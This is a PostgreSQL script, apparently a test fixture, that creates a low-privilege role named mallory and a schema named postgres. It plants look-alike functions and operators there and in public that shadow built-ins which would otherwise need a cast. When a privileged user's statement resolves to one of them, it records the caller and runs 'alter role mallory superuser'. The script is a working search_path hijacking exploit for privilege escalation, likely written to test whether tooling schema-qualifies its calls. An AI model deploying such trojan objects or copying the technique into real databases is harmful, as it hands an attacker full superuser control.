-- Functions and operators in schema public, and in one named like the superuser, that fit the arguments of a statement
-- better than PostgreSQL's own where these need a cast. Each says who called it and makes mallory a superuser. They are
-- made for PostgreSQL's common operators, and for its functions of {{names}} with one or two arguments, over the types
-- that statements of ours have.
create role mallory;
create schema postgres authorization mallory;
grant create, usage on schema public to mallory;
create table public.called (what text, who text);
grant all on public.called to public;
set search_path = pg_catalog;
set role mallory;
create function postgres.climb(what text) returns void language plpgsql as $f$
begin
    if current_user <> 'mallory' then
        insert into public.called values (what, current_user);
        alter role mallory superuser;
    end if;
exception when insufficient_privilege then
    null;
end $f$;
do $do$
declare
    types  text[] := array[
        'integer', 'bigint', 'text', 'name', 'oid', '"char"', 'smallint', 'boolean', 'timestamptz', 'jsonb', 'xid', 'pg_lsn',
        'text[]', 'integer[]', 'regclass', 'json'];
    spaces text[] := array['public', 'postgres'];
    f      record;
    s      text;
    a      text;
    b      text;
begin
    foreach s in array spaces loop
        for f in
            select distinct o.oprname
            from pg_catalog.pg_operator o
            where o.oprname in ('=', '<>', '<', '>', '<=', '>=', '||', '+', '-', '~', '->', '->>', '@>', '&&')
        loop
            foreach a in array types loop
                foreach b in array types loop
                    if not exists (
                        select
                        from pg_catalog.pg_operator o
                        where o.oprname = f.oprname
                          and o.oprleft = a::pg_catalog.regtype
                          and o.oprright = b::pg_catalog.regtype) then
                        execute pg_catalog.format(
                            'create function %I.%I(%s, %s) returns boolean language plpgsql as %L',
                            s, pg_catalog.concat('op', f.oprname), a, b,
                            pg_catalog.format(
                                'begin perform postgres.climb(%L); return true; end',
                                pg_catalog.concat_ws(' ', f.oprname, a, b)));
                        execute pg_catalog.format(
                            'create operator %I.%s (leftarg = %s, rightarg = %s, function = %I.%I)',
                            s, f.oprname, a, b, s, pg_catalog.concat('op', f.oprname));
                    end if;
                end loop;
            end loop;
        end loop;
        for f in
            select distinct p.proname
            from pg_catalog.pg_proc p
            where p.proname = any ({{names}})
              and p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace
        loop
            foreach a in array types loop
                if not exists (
                    select from pg_catalog.pg_proc p
                    where p.proname = f.proname
                      and p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace
                      and p.proargtypes = pg_catalog.array_to_string(array[a::pg_catalog.regtype::oid], ' ')::pg_catalog.oidvector) then
                    execute pg_catalog.format(
                        'create function %I.%I(%s) returns text language plpgsql as %L',
                        s, f.proname, a,
                        pg_catalog.format('begin perform postgres.climb(%L); return null; end', pg_catalog.concat(f.proname, '(', a, ')')));
                end if;
                foreach b in array types[1:6] loop
                    if not exists (
                        select from pg_catalog.pg_proc p
                        where p.proname = f.proname
                          and p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace
                          and p.proargtypes = pg_catalog.array_to_string(
                              array[a::pg_catalog.regtype::oid, b::pg_catalog.regtype::oid], ' ')::pg_catalog.oidvector) then
                        execute pg_catalog.format(
                            'create function %I.%I(%s, %s) returns text language plpgsql as %L',
                            s, f.proname, a, b,
                            pg_catalog.format(
                                'begin perform postgres.climb(%L); return null; end',
                                pg_catalog.concat(f.proname, '(', a, ', ', b, ')')));
                    end if;
                end loop;
            end loop;
        end loop;
    end loop;
end
$do$;
reset role;
reset search_path
